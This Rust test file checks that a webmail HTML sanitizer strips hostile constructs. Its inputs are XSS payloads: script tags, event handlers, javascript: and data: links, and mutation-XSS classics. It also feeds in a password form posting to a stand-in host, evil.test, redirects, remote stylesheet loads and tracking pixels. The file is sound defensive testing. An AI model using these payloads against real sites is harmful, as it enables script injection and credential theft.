//! The hostile battery: each construct a message might carry to run code, submit, redirect or phone home,
//! and what must be left of it.

use super::*;
use crate::audit::find_hazard;

fn blocked(html: &str) -> String {
    clean(html, RemoteImages::Blocked, &InlineImages::default())
}

fn clean(html: &str, remote: RemoteImages, inline: &InlineImages) -> String {
    let out = sanitize_html(html, remote, inline);
    assert_eq!(find_hazard(&out, remote), None, "{html:?} gave {out:?}");
    out
}

/// Lowercased, for assertions that must hold whatever the case.
fn lower(html: &str) -> String {
    blocked(html).to_lowercase()
}

#[test]
fn scripts_and_their_content_are_removed() {
    for html in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi><script>alert(1)</script></mi></math>",
        "<template><script>alert(1)</script></template>",
    ] {
        let out = lower(html);
        assert!(!out.contains("<script") && !out.contains("alert(1)</"), "{html} -> {out}");
    }
}

#[test]
fn event_handlers_are_removed() {
    for html in [
        "<img src=x onerror=alert(1)>",
        "<p onclick='alert(1)'>x</p>",
        "<body onload=alert(1)>",
        "<svg onload=alert(1)>",
        "<div onmouseover=\"alert(1)\" style=\"width:100%\">x</div>",
        "<a href=https://ok.test OnClick=alert(1)>x</a>",
        "<details open ontoggle=alert(1)>",
    ] {
        let out = lower(html);
        assert!(!out.contains("alert"), "{html} -> {out}");
    }
}

#[test]
fn script_links_are_removed() {
    for html in [
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<area href=\"javascript:alert(1)\">",
        "<a href=\"file:///etc/passwd\">x</a>",
    ] {
        let out = lower(html);
        assert!(!out.contains("href"), "{html} -> {out}");
    }
}

#[test]
fn links_open_in_a_new_browsing_context_with_no_opener_and_no_referrer() {
    let out = blocked("<a href=\"https://example.test/page?a=1&b=2\" target=_self rel=opener>read</a>");
    assert_eq!(
        out,
        "<a href=\"https://example.test/page?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer\">read</a>"
    );
    // Protocol-relative and relative links would resolve against the webmail's origin: dropped.
    for html in ["<a href=//evil.test/x>x</a>", "<a href=/webmail/logout>x</a>", "<a href=x.html>x</a>"] {
        let out = blocked(html);
        assert_eq!(out, "<a target=\"_blank\" rel=\"noopener noreferrer\">x</a>", "{html}");
    }
    assert!(blocked("<a href=mailto:bob@example.test>m</a>").contains("href=\"mailto:bob@example.test\""));
}

#[test]
fn forms_and_their_controls_are_removed() {
    let out = lower(
        "<form action=https://evil.test/steal method=post><input name=password type=password>\
         <button formaction=https://evil.test/x>Send</button><textarea>secret</textarea><select><option>a</select></form>",
    );
    for gone in ["<form", "<input", "<button", "formaction", "evil", "<textarea", "secret", "<select"] {
        assert!(!out.contains(gone), "{gone} in {out}");
    }
    assert!(out.contains("send"), "a button's label stays as text: {out}");
}

#[test]
fn documents_never_redirect_rebase_or_load_stylesheets() {
    for html in [
        "<meta http-equiv=refresh content=\"0;url=https://evil.test/\">",
        "<base href=https://evil.test/>",
        "<link rel=stylesheet href=https://evil.test/x.css>",
        "<link rel=prefetch href=https://evil.test/>",
        "<style>@import 'https://evil.test/x.css';</style>",
        "<style>body{background:url(https://evil.test/x.png)}</style>",
    ] {
        let out = lower(html);
        assert!(!out.contains("evil") && !out.contains("<meta") && !out.contains("<base"), "{html} -> {out}");
    }
}

#[test]
fn frames_objects_and_embeds_are_removed_with_their_content() {
    for html in [
        "<iframe src=https://evil.test/>fallback</iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=https://evil.test/x.swf>fallback</object>",
        "<embed src=https://evil.test/x.swf>",
        "<frameset><frame src=https://evil.test/></frameset>",
        "<applet code=x.class>fallback</applet>",
    ] {
        let out = lower(html);
        assert!(!out.contains("evil") && !out.contains("alert") && !out.contains("fallback"), "{html} -> {out}");
    }
}

#[test]
fn remote_images_are_removed_unless_allowed() {
    let html = "<img src=https://tracker.test/pixel.gif alt=logo srcset=\"https://tracker.test/2x.gif 2x\">\
                <p style=\"background:url(https://tracker.test/bg.png);color:red\">x</p>\
                <table background=https://tracker.test/t.png><tr><td>x</td></tr></table>";
    let out = blocked(html);
    assert!(!out.contains("tracker"), "{out}");
    assert!(out.contains("<img alt=\"logo\">") && out.contains("style=\"color:red\""), "{out}");

    let out = clean(html, RemoteImages::Allowed, &InlineImages::default());
    assert!(out.contains("src=\"https://tracker.test/pixel.gif\""), "{out}");
    assert!(out.contains("url(&quot;https://tracker.test/bg.png&quot;)"), "{out}");
    assert!(!out.contains("srcset") && !out.contains("background="), "never loaded, even when allowed: {out}");
}

#[test]
fn cid_images_become_data_uris_of_the_inline_parts() {
    let mut inline = InlineImages::default();
    assert!(inline.insert("<Logo.1@Example.TEST>", "image/png; name=logo.png", b"\x89PNG"));
    assert!(!inline.insert("script@example.test", "text/html", b"<script>"));
    let out = clean(
        "<img src=\"cid:logo.1@example.test\"><img src=\"cid:Logo%2E1@example.test\"><img src=cid:unknown@x>\
         <div style=\"background:url(cid:logo.1@example.test)\">x</div><img src=cid:script@example.test>",
        RemoteImages::Blocked,
        &inline,
    );
    assert_eq!(out.matches("data:image/png;base64,iVBORw==").count(), 3, "{out}");
    assert!(!out.contains("cid:") && !out.contains("text/html"), "{out}");
}

#[test]
fn data_images_stay_but_svg_and_html_data_do_not() {
    let out = blocked("<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">");
    assert!(out.contains("src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\""), "{out}");
    for html in ["<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<img src=\"data:text/html,x\">"] {
        assert!(!blocked(html).contains("src"), "{html}");
    }
}

#[test]
fn mutation_xss_classics_stay_inert() {
    for html in [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<a href=\"https://ok.test\" title=\"&quot;><img src=x onerror=alert(1)>\">x</a>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<!--><img src=x onerror=alert(1)>-->",
    ] {
        // The audit re-reads the output as a browser would: no element may carry a handler.
        let out = blocked(html);
        assert!(!out.contains("<img src") && !out.contains("<img onerror"), "{html} -> {out}");
    }
}

#[test]
fn plaintext_swallows_only_itself() {
    let out = lower("<p>before</p><plaintext><script>alert(1)</script>");
    assert!(out.contains("before") && !out.contains("<script") && !out.contains("plaintext"), "{out}");
}

#[test]
fn ordinary_mail_html_keeps_its_layout() {
    let html = "<table width=\"600\" cellpadding=\"0\" bgcolor=\"#ffffff\" align=center>\
                <tr><td style=\"font-family:Arial;padding:8px\" valign=top><font color=red face=Arial>Hi</font>\
                <h1>News</h1><ul><li>one</li></ul><blockquote>quoted</blockquote></td></tr></table>";
    let out = blocked(html);
    for kept in [
        "width=\"600\"",
        "cellpadding=\"0\"",
        "bgcolor=\"#ffffff\"",
        "style=\"font-family:Arial;padding:8px\"",
        "<font color=\"red\" face=\"Arial\">",
        "<h1>News</h1>",
        "<blockquote>quoted</blockquote>",
    ] {
        assert!(out.contains(kept), "{kept} missing from {out}");
    }
}

#[test]
fn comments_and_conditional_comments_are_removed() {
    let out = blocked("a<!--[if mso]><v:rect href=https://evil.test/></v:rect><![endif]-->b");
    assert_eq!(out, "ab");
}
